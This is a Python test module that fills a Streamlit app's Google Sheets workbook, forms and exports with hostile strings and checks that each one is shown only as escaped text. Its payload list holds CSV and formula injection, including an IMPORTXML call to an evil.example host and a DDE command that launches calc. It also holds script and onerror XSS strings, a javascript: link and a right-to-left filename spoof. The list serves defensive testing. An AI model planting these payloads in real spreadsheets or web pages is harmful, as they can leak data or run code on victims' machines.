"""Hostile text in every field, cell and header: nothing of it is evaluated, followed or drawn, it is shown as text."""

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import gspread
import pytest
from hypothesis import given
from hypothesis import strategies as some
from streamlit.testing.v1 import AppTest

from pages.components.words import plain
from services import report
from services.reading.text import clean
from services.report.xlsx import to_xlsx
from services.schema import LOGS, TABS, Field, Tab, Type
from services.workbook import Snapshot, Workbook, new_row_id
from services.workbook.connection import connect
from tests.pages.conftest import NO_SECRETS, Visit, told
from tests.pages.test_forms import GOOD
from tests.services.workbook.trial import file_in, people, tab

PAYLOADS = (
    '=IMPORTXML("http://evil.example","//a")',
    "+84901234567",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "＝1+1",
    "\t=1+1",
    "'=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    ":red[x] :material/home: :smile:",
    "$x^2$ **b** `c` ~~s~~ _i_",
    "# h",
    "1. x <https://evil.example>",
    "http://evil.example www.evil.example a@evil.example",
    "&lt;b&gt; -> --",
    "x\u202egpj.exe\u200b",
    "👩\u200d👩\u200d👧 hoa\u0300",
    "a\r\n=1+1",
    "0901234567",
)
"""Texts that a reader, a spreadsheet program, a browser or Streamlit would take for more than text."""
BAITS = re.compile(
    r"(?<!\\)(<script>|<img|\[x\]\(|://evil|www\.evil|a@evil|&lt;|:red\[|:material/home|:smile|\$x\^2|\*\*b|`c`|~~s)"
)
"""What must not stand in markdown as it was typed; after a backslash it is a plain sign."""
TYPED_IN_FORMS = (Type.NAME, Type.TEXT)
PLAIN = (
    ("dataframe", "columns"),  # drawn by glide-data-grid on a canvas
    ("vega_lite_chart", "spec"),
    ("vega_lite_chart", "alt"),
    ("selectbox", "options"),
    ("selectbox", "raw_value"),
    ("text_input", "default"),
    ("text_input", "value"),
    ("text_area", "default"),
    ("text_area", "value"),
    ("code", "code_text"),
    ("text", "body"),
    ("page_link", "query_string"),
)
"""(element, field) that the browser shows as it is; whatever else an element says, Streamlit may read as markdown."""


def typed(field: Field, payload: str, nth: int) -> str:
    """The payload, in a text that no other field or row holds."""
    return f"{payload} {field.key}{nth}" if field.unique else payload


def entry(tab: Tab, payload: str, nth: int) -> dict[str, Any]:
    """An entry as a form sends it, with the payload in all that may be typed freely."""
    good = GOOD.get(tab.key, {"duty": "II.2"})
    free = {f.key: payload for f in tab.form_fields if f.type in TYPED_IN_FORMS}
    unique = {"url": f"https://example.vn/{nth}"} if tab.key == "posts" else {}
    usual = {f.key: f.default for f in tab.form_fields if f.default in f.choices}
    return {"unit": "CESTI", **usual, **good, **free, **unique}


def typed_by_hand(sheet: gspread.Spreadsheet) -> None:
    """People paste payloads into every column of every tab, also as headers that the app does not know."""
    for key, known in TABS.items():
        worksheet = tab(sheet, key)
        width = len(known.fields)
        worksheet.resize(cols=width + len(PAYLOADS))
        worksheet.update([list(PAYLOADS)], f"{gspread.utils.rowcol_to_a1(1, width + 1)}", value_input_option="RAW")
        rows = [[payload] * (width + 1) for payload in PAYLOADS]
        if known.is_log:
            # Read as CESTI's, so that they show on its page.
            at = next(n for n, field in enumerate(known.fields) if field.key == "unit")
            rows += [[*row[:at], "CESTI", *row[at + 1 :]] for row in rows]
        worksheet.append_rows(rows, value_input_option="RAW")


@pytest.fixture(scope="module")
def blank(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workbook full of payloads: by the form, by hand, and in plan, units and duties that the app uses."""
    folder = tmp_path_factory.mktemp("hostile")
    book = Workbook(connect({"LOCAL_WORKBOOK": str(file_in(folder))}, NO_SECRETS))
    sheet = people(folder)
    for key, cell in (("units", "C3"), ("units", "B3"), ("duties", "B2"), ("duties", "B3")):
        name = f"{PAYLOADS[9]} {PAYLOADS[8]} {PAYLOADS[15]}"
        tab(sheet, key).update([[name]], cell, value_input_option="RAW")
    plan = tab(sheet, "plan")
    plan.update([[PAYLOADS[10]]] * 4, f"B{plan.find('Chủ đề').row - 2}", value_input_option="RAW")
    for known in LOGS.values():
        entries = [(new_row_id(), entry(known, payload, n)) for n, payload in enumerate(PAYLOADS)]
        book.add_all(known.key, entries, by=PAYLOADS[9])
    typed_by_hand(sheet)
    return file_in(folder)


def strings(message: Any, path: tuple[str, ...] = ()) -> Iterator[tuple[tuple[str, ...], str]]:
    """All texts of a protobuf message with the names of the fields that lead to them."""
    for field, value in message.ListFields():
        several = value if field.is_repeated else [value]
        for each in several:
            if field.type == field.TYPE_MESSAGE and hasattr(each, "ListFields"):
                yield from strings(each, (*path, field.name))
            elif isinstance(each, str):
                yield (*path, field.name), each


def nodes(node: Any) -> Iterator[Any]:
    yield node
    for child in getattr(node, "children", {}).values():
        yield from nodes(child)


def alive(app: AppTest) -> list[tuple[str, str, str]]:
    """(element, field, text) of all payloads that stand unescaped where Streamlit reads markdown."""
    found = []
    for node in nodes(app._tree):
        proto = getattr(node, "proto", None)
        for path, text in strings(proto) if hasattr(proto, "ListFields") else ():
            if path[-1] in ("id", "form_id"):
                continue
            kind = path[0] if type(proto).__name__ == "Element" else str(node.type)
            if not any(kind.endswith(where) and path[-1] == field for where, field in PLAIN):
                found += [(kind, path[-1], text[:200])] if BAITS.search(text) else []
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_is_escaped_reads_as_it_was_typed(payload: str) -> None:
    shown = re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", plain(payload)).replace("\u2060", "")
    assert shown == " ".join(payload.split())
    assert BAITS.search(payload) is None or BAITS.search(plain(payload)) is None


def test_no_page_draws_anything_of_it(visit: Visit, book: Workbook) -> None:
    row_id = {key: book.snapshot().tables[key]["row_id"].iloc[9] for key in LOGS}
    looks: list[tuple[str, dict[str, str]]] = [
        ("overview", {}),
        ("my_work", {"unit": "CESTI"}),
        ("data_quality", {}),
        ("report", {}),
        ("setup", {}),
        ("audit", {}),
        ("sheet", {"tab": "banners"}),
        ("nominations", {"row": row_id["nominations"], "unit": "CESTI"}),
        ("posts", {"row": row_id["posts"]}),
    ]
    for name, query in looks:
        app = visit(name, **query)
        assert alive(app) == [], name
    assert "(javascript" in told(visit("my_work", unit="CESTI"))


def test_a_pasted_list_with_hostile_headers_and_a_refused_form_are_told_as_text(visit: Visit, book: Workbook) -> None:
    app = visit("nominations")
    header = ["Đơn vị", "Họ và tên", *(payload.replace("\r\n", " ") for payload in PAYLOADS if "\t" not in payload)]
    app.text_area(key="bulk-nominations-text").set_value("\t".join(header) + "\n" + "\t".join(PAYLOADS[9:12]))
    next(button for button in app.form_submit_button if button.label == "Xem trước").click()
    app.run()
    assert "Bỏ qua các cột" in told(app)
    assert alive(app) == []


def test_in_the_sheet_everything_is_text(tmp_path: Path, book: Workbook) -> None:
    """Read back, a formula would show its result."""
    for key, known in LOGS.items():
        worksheet = tab(people(tmp_path), key)
        formulas = worksheet.get_values(value_render_option="FORMULA")
        assert formulas == worksheet.get_values(value_render_option="UNFORMATTED_VALUE")
        free = [n for n, field in enumerate(known.fields) if field.type in TYPED_IN_FORMS and not field.automatic]
        for payload, row in zip(PAYLOADS, formulas[1:], strict=False):
            for n in free:
                assert row[n] in (clean(payload), clean(payload, lines=True))


def exports(snapshot: Snapshot) -> dict[str, bytes]:
    figures = report.figures(report.live(snapshot, snapshot.read_at))
    files = {title: report.to_csv(frame) for title, frame in figures.entries(names=True).items()}
    files["xlsx"] = to_xlsx(figures, names=True)
    return files


def test_no_file_that_leaves_the_app_holds_a_formula_or_a_link(book: Workbook) -> None:
    files = exports(Workbook(book.connection).snapshot())
    with zipfile.ZipFile(io.BytesIO(files.pop("xlsx"))) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist() if name.endswith((".xml", ".rels"))}
    active = re.compile(r"<f[ >]|<hyperlink|TargetMode=|<dde|<externalLink")
    assert [name for name, text in parts.items() if active.search(text)] == []
    assert any("IMPORTXML" in text for text in parts.values())
    texts = [data.decode("utf-8-sig") for data in files.values()]
    cells = [cell for text in texts for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert "'@SUM(1)" in cells
    assert [cell for cell in cells if re.match(r"\s*[=+\-@＝＋－＠]", cell)] == []


@given(some.text(max_size=80), some.sampled_from(PAYLOADS), some.text(max_size=20))
def test_any_text_around_it_leaves_it_escaped(before: str, payload: str, after: str) -> None:
    shown = plain(before + payload + after)
    # What a backslash stands before is a plain sign.
    bare = re.sub(r"\\[!-/:-@\[-`{-~]", "§", shown)
    assert not re.search(r"[`*_\[\]<$~&|]|://|www\.|@\w|:[a-z]", bare)
    assert not re.match(r"[#>+=-]|\d+[.)]", bare)
    assert "\n" not in shown
